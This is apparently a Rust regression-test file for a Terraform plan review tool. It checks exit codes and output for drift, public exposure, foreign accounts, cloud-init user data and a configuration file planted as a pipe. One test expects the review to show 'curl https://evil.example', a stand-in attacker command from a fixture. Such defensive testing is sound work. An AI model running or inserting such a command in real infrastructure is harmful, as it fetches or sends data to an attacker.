//! The fourth attack: what a plan, a file beside it, or a log must not be able to do. Each case stands for a class;
//! the modules of the areas have the siblings.

use super::Case;
use crate::cli::harness::tfview;

/// Runs commands of one regression, each with the exit code that it must have.
#[track_caller]
fn assert_exits(folder: &'static str, commands: &[(&str, i32)]) {
    let case = Case(folder);
    for (command, code) in commands {
        let output = case.run(command);
        assert_eq!(output.code, Some(*code), "{folder} {command}: {output}");
    }
}

/// A policy that somebody opened to everybody was drift without a finding, because a part with another policy exists.
#[test]
fn a_part_with_another_policy_explains_no_drift() {
    assert_exits(
        "regressions/drift-own-part-with-another-policy",
        &[
            ("review --fail-on drift plan.json", 3),
            ("review --fail-on finding:exposure plan.json", 3),
            ("review --fail-on drift key.json", 3),
            ("review --fail-on finding:exposure key.json", 3),
        ],
    );
}

/// A guard of another region excused the destruction of the only one of this region.
#[test]
fn a_guard_of_another_provider_configuration_excuses_nothing() {
    assert_exits(
        "regressions/guard-excused-by-other-region",
        &[
            ("review --fail-on finding:protection plan.json", 3),
            ("review --fail-on finding:protection guardduty.json", 3),
        ],
    );
}

/// The ARN of the target of an event made its account the plan's own.
#[test]
fn the_arn_of_another_object_makes_no_account_the_own() {
    assert_exits(
        "regressions/foreign-account-becomes-own",
        &[
            ("review --fail-on finding:exposure without.json", 3),
            ("review --fail-on finding:exposure plan.json", 3),
        ],
    );
}

/// A function of a document counted as the document.
#[test]
fn a_policy_is_expected_only_where_the_argument_is_the_document() {
    assert_exits(
        "regressions/expected-policy-of-another-expression",
        &[("review --fail-on finding:unknown plan.json", 3)],
    );
}

/// A text of a review that must have, or must not have, some words.
#[track_caller]
fn text_of(folder: &'static str, command: &str) -> String {
    let output = Case(folder).run(command);
    assert_eq!(output.code, Some(0), "{folder} {command}: {output}");
    output.stdout
}

/// What runs, who gets it and where it goes is shown of a created object, and the rest is counted.
#[test]
fn of_a_created_object_what_runs_who_gets_it_and_where_it_goes_is_shown() {
    for (file, word) in [
        ("extension.json", "curl https://evil.example"),
        ("attachment.json", "evil-user"),
    ] {
        for format in ["terminal", "markdown"] {
            let command = format!("review --format {format} {file}");
            let text = text_of("regressions/created-values-left-out", &command);
            assert!(text.contains(word), "{text}");
        }
    }
}

/// One of four permissions is for a bucket of somebody else.
#[test]
fn a_created_object_that_differs_from_the_others_of_its_entry_is_named() {
    let text = text_of("regressions/created-outlier-joined", "review plan.json");
    assert!(text.contains("evil"), "{text}");
}

/// Which object is which after `moved` blocks is said, above all if two change places.
#[test]
fn each_move_of_a_key_is_named_and_an_exchange_called_one() {
    let text = text_of("regressions/moves-permuted", "review plan.json");
    assert!(text.contains("\"prod\" <-> \"test\" exchanged"), "{text}");
}

/// The first line of user data decides whether it is a configuration or a script.
#[test]
fn the_first_line_of_user_data_is_shown_if_it_differs() {
    let text = text_of("regressions/yaml-comment-that-acts", "review plan.json");
    assert!(
        text.contains("#cloud-config") && text.contains("#cloud-boothook"),
        "{text}"
    );
}

/// An empty selector selects everything, and no selector nothing.
#[test]
fn an_empty_selector_in_a_document_is_an_edit() {
    let text = text_of(
        "regressions/formatting-only-empty-selector",
        "review plan.json",
    );
    assert!(!text.contains("formatting only"), "{text}");
    assert!(text.contains("namespaceSelector"), "{text}");
}

/// The messages of a run end after an ephemeral resource was opened.
#[test]
fn messages_that_end_after_an_ephemeral_resource_was_opened_are_no_complete_run() {
    assert_exits(
        "regressions/stream-ends-after-ephemeral",
        &[("stream messages.jsonl", 1)],
    );
}

/// The file with names is often in the repository that is reviewed.
#[test]
fn a_name_hides_no_range() {
    let text = text_of(
        "regressions/names-hide-the-world",
        "review --names names.txt plan.json",
    );
    assert!(text.contains("0.0.0.0/0"), "{text}");
}

/// A day of the past in `SOURCE_DATE_EPOCH` made acceptances hold for ever.
#[test]
fn acceptances_end_by_the_clock_of_the_machine() {
    let folder = Case("regressions/accept-never-ends").folder();
    let output = tfview("review --config accept.toml --fail-on finding:exposure plan.json")
        .folder(&folder)
        .variable("SOURCE_DATE_EPOCH", "315532800")
        .output();
    assert_eq!(output.code, Some(3), "{output}");
}

/// Another user may put a pipe where a configuration is looked for.
#[cfg(unix)]
#[test]
fn a_configuration_that_is_found_is_a_file() {
    use std::fs;
    use std::path::PathBuf;

    let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("found-config-is-a-pipe");
    let _ = fs::remove_dir_all(&folder);
    fs::create_dir_all(folder.join("sub")).unwrap();
    fs::write(folder.join("plan.json"), "{\"format_version\": \"1.2\"}").unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(folder.join(".tfview.toml"))
        .status()
        .unwrap();
    assert!(made.success());
    let output = tfview("review ../plan.json")
        .folder(&folder.join("sub"))
        .output();
    assert_eq!(output.code, Some(1), "{output}");
    assert!(output.stderr.contains("not a file"), "{output}");
}
